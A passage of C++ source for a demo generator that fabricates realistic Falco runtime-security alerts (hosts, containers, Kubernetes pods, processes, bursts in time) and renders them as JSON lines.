    {"evt.arg.flags", false, [](FieldContext &) -> Value { return Value::str("0"); }},
    {"user.name", false, [](FieldContext &c) -> Value { return Value::str(c.user.name); }},
    {"user.uid", false, [](FieldContext &c) -> Value { return Value::num(c.user.uid); }},
    {"user.loginuid", false, [](FieldContext &c) -> Value { return Value::num(c.inContainer ? -1 : (c.user.uid == 0 ? -1 : c.user.uid)); }},
    {"user.loginname", false, [](FieldContext &c) -> Value { return Value::str(c.inContainer ? "" : c.user.name); }},
    {"group.gid", false, [](FieldContext &c) -> Value { return Value::num(c.user.uid); }},
    {"group.name", false, [](FieldContext &c) -> Value { return Value::str(c.user.name); }},
    {"proc.name", false, [](FieldContext &c) -> Value { return Value::str(c.proc.name); }},
    {"proc.sname", false, [](FieldContext &c) -> Value { return Value::str(c.proc.name); }},
    {"proc.exepath", false, [](FieldContext &c) -> Value { return Value::str(c.proc.exepath); }},
    {"proc.exe", false, [](FieldContext &c) -> Value { return Value::str(c.proc.exepath); }},
    {"proc.cmdline", false, [](FieldContext &c) -> Value { return Value::str(c.proc.cmdline); }},
    {"proc.args", false, [](FieldContext &c) -> Value {
        const QByteArray cmdline(c.proc.cmdline);
        const int sp = cmdline.indexOf(' ');
        return Value::str(sp < 0 ? QByteArray() : cmdline.mid(sp + 1));
    }},
    {"proc.pname", false, [](FieldContext &c) -> Value { return Value::str(c.proc.parent); }},
    {"proc.pcmdline", false, [](FieldContext &c) -> Value { return Value::str(QByteArray(c.proc.parent) + (std::strcmp(c.proc.parent, "bash") == 0 ? "" : " --foreground")); }},
    {"proc.pexe", false, [](FieldContext &c) -> Value { return Value::str("/usr/bin/" + QByteArray(c.proc.parent)); }},
    {"proc.pexepath", false, [](FieldContext &c) -> Value { return Value::str("/usr/bin/" + QByteArray(c.proc.parent)); }},
    {"proc.tty", false, [](FieldContext &) -> Value { return Value::num(0); }},
    {"proc.cwd", false, [](FieldContext &c) -> Value { return Value::str(c.inContainer ? "/app/" : "/root/"); }},
    {"proc.aname[", true, [](FieldContext &c) -> Value {
        const int level = c.field.mid(11, 1).toInt();
        if (level >= 5 && c.rng.chance(0.5))
            return {};
        return Value::str(s_ancestors[(quint64(level) * 7 + c.podHash) % std::size(s_ancestors)]);
    }},
    {"proc.aexepath[", true, [](FieldContext &) -> Value { return Value::str("/usr/bin/containerd-shim-runc-v2"); }},
    {"proc.exe_ino.", true, [](FieldContext &c) -> Value {
        return Value::num(c.field.endsWith("proc_start") ? 1200000000LL + c.rng.below(900000000)
                                                       : c.evtTimeNs - 30000000000LL - c.rng.below(1000000000));
    }},
    {"fd.name", false, [](FieldContext &c) -> Value { return Value::str("/tmp/" + hex(c.rng.next(), 6)); }},
    {"fd.lport", false, [](FieldContext &c) -> Value { return Value::num(32768 + c.rng.below(28000)); }},
    {"fd.rport", false, [](FieldContext &) -> Value { return Value::num(443); }},
    {"fd.type", false, [](FieldContext &) -> Value { return Value::str("ipv4"); }},
    {"fd.l4proto", false, [](FieldContext &) -> Value { return Value::str("tcp"); }},
    {"fd.sip", false, [](FieldContext &) -> Value { return Value::str("10.43.0.1"); }},
    {"thread.cap_effective", false, [](FieldContext &) -> Value { return Value::str(""); }},
    {"container.id", false, [](FieldContext &c) -> Value { return Value::str(c.inContainer ? c.containerId : QByteArray("host")); }},
    {"container.name", false, [](FieldContext &c) -> Value { return Value::str(c.inContainer ? QByteArray(c.wl.name) : QByteArray("host")); }},
    {"container.image.repository", false, [](FieldContext &c) -> Value { return c.inContainer ? Value::str(c.wl.image) : Value{}; }},
    {"container.image.tag", false, [](FieldContext &c) -> Value { return c.inContainer ? Value::str(c.wl.tag) : Value{}; }},
    {"k8s.ns.name", false, [](FieldContext &c) -> Value { return c.inContainer && !c.vmHost ? Value::str(c.wl.ns) : Value{}; }},
    {"k8s.pod.name", false, [](FieldContext &c) -> Value { return c.inContainer && !c.vmHost ? Value::str(c.podName) : Value{}; }},
    {"container.start_ts", false, [](FieldContext &c) -> Value { return Value::num(c.evtTimeNs - 3600000000000LL * (1 + qint64(c.podHash % 48))); }},
    {"container.mounts", false, [](FieldContext &) -> Value { return Value::str(""); }},
    {"ka.user.name", false, [](FieldContext &c) -> Value { return Value::str(s_k8sUsers[c.rng.below(int(std::size(s_k8sUsers)) - 1)]); }},
    {"ka.target.name", false, [](FieldContext &c) -> Value { return Value::str(c.podName); }},
    {"ka.resp.name", false, [](FieldContext &c) -> Value { return Value::str(c.podName); }},
    {"ka.target.namespace", false, [](FieldContext &c) -> Value { return Value::str(c.wl.ns); }},
    {"ka.target.resource", false, [](FieldContext &) -> Value { return Value::str("pods"); }},
    {"ka.auth.decision", false, [](FieldContext &) -> Value { return Value::str("allow"); }},
    {"ka.auth.reason", false, [](FieldContext &) -> Value { return Value::str("RBAC: allowed by ClusterRoleBinding \"cluster-admin\" of ClusterRole \"cluster-admin\""); }},
};

} // namespace

struct DemoGenerator::Private
{
    DemoOptions options;
    Rng rng;
    std::vector<const RuleSpec *> rules;
    std::vector<double> ruleCdf;
    std::vector<QByteArray> hosts;
    std::vector<double> hostCdf;
    std::vector<double> workloadCdf;
    qint64 startMs = 0;
    double stepMs = 0;
    qint64 lastMs = 0;
    qint64 index = 0;

    // The current burst: the same rule, host and workload repeated in quick succession.
    int burstLeft = 0;
    int burstRule = 0, burstHost = 0, burstWorkload = 0;

    explicit Private(const DemoOptions &o) : options(o), rng(o.seed) {}

    static std::vector<double> paretoCdf(size_t n, double exponent)
    {
        std::vector<double> cdf(n);
        double sum = 0;
        for (size_t i = 0; i < n; ++i) {
            sum += 1.0 / std::pow(double(i + 1), exponent);
            cdf[i] = sum;
        }
        for (double &c : cdf)
            c /= sum;
        return cdf;
    }

    int pick(const std::vector<double> &cdf)
    {
        const double u = rng.uniform();
        const auto it = std::lower_bound(cdf.begin(), cdf.end(), u);
        return int(std::min<size_t>(size_t(it - cdf.begin()), cdf.size() - 1));
    }

    QByteArray next();
};

DemoGenerator::DemoGenerator(const DemoOptions &options) : d(std::make_unique<Private>(options))
{
    if (d->options.endMs <= 0)
        d->options.endMs = QDateTime::currentMSecsSinceEpoch() / 1000 * 1000;
    if (d->options.spanMs <= 0)
        d->options.spanMs = 1;
    d->options.count = std::max<qint64>(0, d->options.count);
    d->startMs = d->options.endMs - d->options.spanMs;
    d->stepMs = d->options.count > 0 ? double(d->options.spanMs) / double(d->options.count) : 0;
    d->lastMs = d->startMs;
    d->rules = activeRules();
    d->ruleCdf = Private::paretoCdf(d->rules.size(), 1.15);

    // Hosts: Kubernetes nodes of two clusters and a few plain VMs; the pool size is part of the seed's world.
    Rng world(d->options.seed ^ 0xA5A5A5A5ULL);
    for (int i = 0; i < 24; ++i)
        d->hosts.push_back("ip-10-0-" + QByteArray::number(1 + world.below(60)) + '-' + QByteArray::number(2 + world.below(250))
                           + ".eu-west-1.compute.internal");
    for (int i = 0; i < 12; ++i)
        d->hosts.push_back("gke-prod-pool-" + QByteArray::number(i % 3 + 1) + '-' + hex(world.next(), 8) + '-' + hex(world.next(), 4));
    const char *const vms[] = {"bastion-01", "build-02", "db-primary", "db-replica-1", "vpn-gw", "jumpbox"};
    for (const char *vm : vms)
        d->hosts.push_back(vm);
    d->hostCdf = Private::paretoCdf(d->hosts.size(), 0.9);
    d->workloadCdf = Private::paretoCdf(std::size(s_workloads), 0.8);
}

DemoGenerator::~DemoGenerator() = default;

bool DemoGenerator::atEnd() const
{
    return d->index >= d->options.count;
}

qint64 DemoGenerator::generated() const
{
    return d->index;
}

const DemoOptions &DemoGenerator::options() const
{
    return d->options;
}

QStringList DemoGenerator::ruleNames()
{
    QStringList names;
    for (const RuleSpec *r : activeRules())
        names << QString::fromUtf8(r->name);
    return names;
}

QByteArray DemoGenerator::next()
{
    if (atEnd())
        return {};
    return d->next();
}

QByteArray DemoGenerator::Private::next()
{
    // Time: an even march from start to end with jitter; a burst packs alerts a few hundred ms apart and
    // the march catches up afterwards, which leaves a quiet gap. Never backwards, never at or after end.
    // A burst is denser than the march: when the march itself is tighter than a few hundred ms (millions of alerts
    // over a few days), a burst's steps are at most half of it, or bursts would run ahead of the march faster than it
    // catches up and pile the alerts up at the end of the range.
    qint64 ts;
    if (burstLeft > 0) {
        ts = lastMs + std::min<qint64>(20 + rng.below(900), std::max<qint64>(1, qint64(stepMs / 2)));
    } else {
        const double base = double(startMs) + double(index) * stepMs;
        ts = qint64(base + rng.uniform() * stepMs);
        if (rng.chance(0.004) && options.count > 50) {
            burstLeft = 8 + rng.below(60);
            burstRule = pick(ruleCdf);
            burstHost = pick(hostCdf);
            burstWorkload = pick(workloadCdf);
        }
    }
    ts = std::clamp(std::max(ts, lastMs), startMs, options.endMs - 1);
    lastMs = ts;
    ++index;

    int ruleIndex, hostIndex, workloadIndex;
    if (burstLeft > 0) {
        --burstLeft;
        ruleIndex = burstRule;
        hostIndex = burstHost;
        workloadIndex = burstWorkload;
    } else {
        ruleIndex = pick(ruleCdf);
        hostIndex = pick(hostCdf);
        workloadIndex = pick(workloadCdf);
    }
    const RuleSpec &rule = *rules[size_t(ruleIndex)];
    const QByteArray &host = hosts[size_t(hostIndex)];
    const bool vmHost = hostIndex >= 36;
    const Workload &wl = s_workloads[workloadIndex];
    const int nanos = rng.below(1000000);
    const qint64 evtTimeNs = ts * 1000000 + nanos;

    bool inContainer = false;
    switch (rule.where) {
    case Where::Container: inContainer = true; break;
    case Where::Either: inContainer = !vmHost && rng.chance(0.7); break;
    default: break;
    }

    // The world of this alert: the container (stable per host and workload), the process, the user.
    const quint64 podHash = mix(options.seed, quint64(hostIndex) * 131 + quint64(workloadIndex));
    QByteArray podName = QByteArray(wl.name) + '-';
    // Unsigned: the hash wraps by design (the same bits the names always had), without signed overflow.
    unsigned h = unsigned(podHash % 1000000007ULL);
    for (int i = 0; i < 10; ++i, h = h * 31 + 7)
        podName.append(s_podAlphabet[(h >> 3) % 27]);
    podName.append('-');
    for (int i = 0; i < 5; ++i)
        podName.append(s_podAlphabet[(podHash >> (i * 5 + 20)) % 27]);
    const QByteArray containerFullId = hex(podHash, 16) + hex(mix(podHash, 1), 16) + hex(mix(podHash, 2), 16)
        + hex(mix(podHash, 3), 16);
    const QByteArray containerId = containerFullId.left(12);

    const ProcessSpec fallback{"sh", "/bin/sh", "sh", "bash"};
    const ProcessSpec &proc = rule.processes.empty() ? fallback : rule.processes[size_t(rng.below(int(rule.processes.size())))];
    const User &user = s_users[rng.below(int(std::size(s_users)))];

    auto override = [&](const QByteArray &field) -> const char * {
        for (const FieldValues &fv : rule.values) {
            if (field == fv.field)
                return fv.values[size_t(rng.below(int(fv.values.size())))];
        }
        return nullptr;
    };

    FieldContext context{rng, user, proc, wl, inContainer, vmHost, evtTimeNs, podHash, podName, containerId, {}};
    auto value = [&](const QByteArray &field) -> Value {
        if (const char *o = override(field)) {
            if (isIntegerField(field))
                return Value::num(QByteArray(o).toLongLong());
            return Value::str(o);
        }
        for (const FieldRule &r : s_fieldRules) {
            if (r.prefix ? field.startsWith(r.name) : field == r.name) {
                context.field = field;
                return r.value(context);
            }
        }
        return {};
    };

    QByteArray out;
    out.reserve(1600);
    const QByteArray prio(rule.priority);

    if (rule.where == Where::Internal) {
        const QByteArray text = "Falco internal: syscall event drop. " + QByteArray::number(100 + rng.below(20000))
            + " system calls dropped in last second.";
        out.append("{\"hostname\":");
        appendJsonString(out, host);
        out.append(",\"output\":");
        appendJsonString(out, text);
        out.append(",\"output_fields\":{},\"priority\":\"Debug\",\"rule\":\"Falco internal: syscall event drop\","
                   "\"source\":\"internal\",\"time\":\"");
        out.append(isoNanos(ts, nanos, true));
        out.append("\"}");
        return out;
    }

    // Render the output string and collect output_fields from the rule's format, as Falco does.
    QByteArray format(rule.format);
    format.replace("%container.info",
                   "container_id=%container.id container_image=%container.image.repository "
                   "container_image_tag=%container.image.tag container_name=%container.name "
                   "k8s_ns=%k8s.ns.name k8s_pod_name=%k8s.pod.name");
    if (rule.where != Where::K8sAudit)
        format.prepend("%evt.time ");
    QByteArray text;
    std::vector<std::pair<QByteArray, Value>> fields;
    for (qsizetype i = 0; i < format.size();) {
        if (format[i] != '%') {
            text.append(format[i++]);
            continue;
        }
        qsizetype j = i + 1;
        while (j < format.size()) {
            const char c = format[j];
            const bool nameChar = std::isalnum(static_cast<unsigned char>(c)) || c == '.' || c == '_' || c == '[' || c == ']';
            if (!nameChar || (c == '.' && (j + 1 >= format.size() || format[j + 1] == ' ' || format[j + 1] == ')')))
                break;
            ++j;
        }
        const QByteArray field = format.mid(i + 1, j - i - 1);
        i = j;
        Value v;
        auto found = std::find_if(fields.begin(), fields.end(), [&](const auto &f) { return f.first == field; });
        if (found != fields.end()) {
            v = found->second;
        } else {
            v = value(field);
            fields.emplace_back(field, v);
        }
        if (field == "evt.time" && text.isEmpty()) {
            text.append(isoNanos(ts, nanos, false)).append(": ").append(prio);
            continue;
        }
        switch (v.kind) {
        case Value::Kind::Null: text.append("<NA>"); break;
        case Value::Kind::String: text.append(v.text); break;
        case Value::Kind::Int: text.append(QByteArray::number(v.number)); break;
        }
    }
    std::sort(fields.begin(), fields.end(), [](const auto &a, const auto &b) { return a.first < b.first; });

    const bool viaSidekick = hostIndex % 3 == 0;
    out.append("{\"hostname\":");
    appendJsonString(out, host);
    out.append(",\"output\":");
    appendJsonString(out, text);
    out.append(",\"output_fields\":{");
    bool first = true;
    for (const auto &[name, v] : fields) {
        if (!first)
            out.append(',');
        first = false;
        appendJsonString(out, name);
        out.append(':');
        switch (v.kind) {
        case Value::Kind::Null: out.append("null"); break;
        case Value::Kind::String: appendJsonString(out, v.text); break;
        case Value::Kind::Int: out.append(QByteArray::number(v.number)); break;
        }
    }
    out.append("},\"priority\":");
    appendJsonString(out, prio);
    out.append(",\"rule\":");
    appendJsonString(out, QByteArray(rule.name));
    out.append(",\"source\":");
    out.append(rule.where == Where::K8sAudit ? "\"k8s_audit\"" : "\"syscall\"");
    out.append(",\"tags\":[");
    std::vector<QByteArray> tags(rule.tags.begin(), rule.tags.end());
    std::sort(tags.begin(), tags.end());
    for (size_t i = 0; i < tags.size(); ++i) {
        if (i)
            out.append(',');
        appendJsonString(out, tags[i]);
    }
    out.append("],\"time\":\"");
    out.append(isoNanos(ts, nanos, true));
    out.append('"');
    if (viaSidekick) {
        const quint64 a = rng.next(), b = rng.next();
        QByteArray uuid = hex(a >> 32, 8) + '-' + hex(a >> 16, 4) + "-4" + hex(a, 3) + '-'
            + hex(0x8000 | (b >> 48 & 0x3fff), 4) + '-' + hex(b, 12);
        out.append(",\"uuid\":\"").append(uuid).append('"');
    }
    out.append('}');
    return out;
}

} // namespace fe
